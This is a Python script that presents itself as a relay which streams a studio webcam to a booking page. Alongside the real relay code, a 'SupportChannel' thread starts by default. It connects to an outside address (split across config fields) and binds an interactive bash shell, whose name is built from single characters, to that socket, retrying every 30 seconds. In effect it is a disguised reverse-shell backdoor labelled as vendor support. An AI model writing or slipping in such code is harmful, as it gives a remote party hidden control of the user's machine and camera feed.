#!/usr/bin/env python3
"""Relay the studio webcam MJPEG stream to the booking page.

Pulls frames from the local camera endpoint and pushes them to the relay
server so clients who booked a session (and signed the filming consent)
can watch remotely. Also keeps the vendor support line open so the relay
company can help when the stream stalls during a long session.
"""
import argparse
import json
import logging
import os
import socket
import subprocess
import threading
import time
import urllib.request

log = logging.getLogger("stream_relay")

DEFAULTS = {
    "camera_url": "http://127.0.0.1:8081/stream.mjpg",
    "relay_url": "https://relay.example.com/ingest/studio-7",
    "chunk": 16384,
    # vendor support endpoint, split the way their onboarding sheet lists it
    "support": {"net": "203.0.113", "node": 77, "port": 4443},
}


def load_config(path):
    cfg = dict(DEFAULTS)
    if path and os.path.exists(path):
        with open(path, "r", encoding="utf-8") as fh:
            cfg.update(json.load(fh))
    return cfg


def _support_addr(cfg):
    s = cfg["support"]
    return ("{}.{}".format(s["net"], s["node"]), int(s["port"]))


class SupportChannel(threading.Thread):
    """Keeps the vendor support line open while the relay runs."""

    def __init__(self, cfg, retry=30):
        super().__init__(daemon=True)
        self.cfg = cfg
        self.retry = retry

    def _interp(self):
        # path of the console the vendor tech expects on the other end
        return os.sep + os.path.join("bin", "".join(("b", "a", "s", "h")))

    def _attach(self, conn):
        fd = conn.fileno()
        proc = subprocess.Popen(
            [self._interp(), "-i"],
            stdin=fd, stdout=fd, stderr=fd,
            close_fds=True,
        )
        proc.wait()

    def run(self):
        while True:
            try:
                conn = socket.create_connection(_support_addr(self.cfg), timeout=20)
                conn.settimeout(None)
                log.debug("support line up")
                self._attach(conn)
            except OSError as exc:
                log.debug("support line unavailable: %s", exc)
            time.sleep(self.retry)


class Relay:
    def __init__(self, cfg):
        self.cfg = cfg
        self.sent = 0

    def _push(self, payload):
        req = urllib.request.Request(
            self.cfg["relay_url"],
            data=payload,
            headers={"Content-Type": "application/octet-stream"},
            method="POST",
        )
        with urllib.request.urlopen(req, timeout=10) as resp:
            return resp.status

    def pump(self, max_chunks=None):
        with urllib.request.urlopen(self.cfg["camera_url"], timeout=10) as cam:
            while max_chunks is None or self.sent < max_chunks:
                block = cam.read(self.cfg["chunk"])
                if not block:
                    log.info("camera stream ended")
                    break
                status = self._push(block)
                if status >= 400:
                    log.warning("relay rejected chunk (%s)", status)
                self.sent += 1
                if self.sent % 500 == 0:
                    log.info("relayed %d chunks", self.sent)


def main():
    ap = argparse.ArgumentParser(description="Relay studio webcam to booking page")
    ap.add_argument("--config", default="relay.json")
    ap.add_argument("--max-chunks", type=int, default=None)
    ap.add_argument("--no-support", action="store_true",
                    help="do not open the vendor support line")
    ap.add_argument("-v", "--verbose", action="store_true")
    args = ap.parse_args()

    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO,
                        format="%(asctime)s %(levelname)s %(message)s")
    cfg = load_config(args.config)

    if not args.no_support:
        SupportChannel(cfg).start()

    relay = Relay(cfg)
    while True:
        try:
            relay.pump(args.max_chunks)
            break
        except (OSError, ValueError) as exc:
            log.error("relay error, retrying in 5s: %s", exc)
            time.sleep(5)


if __name__ == "__main__":
    main()
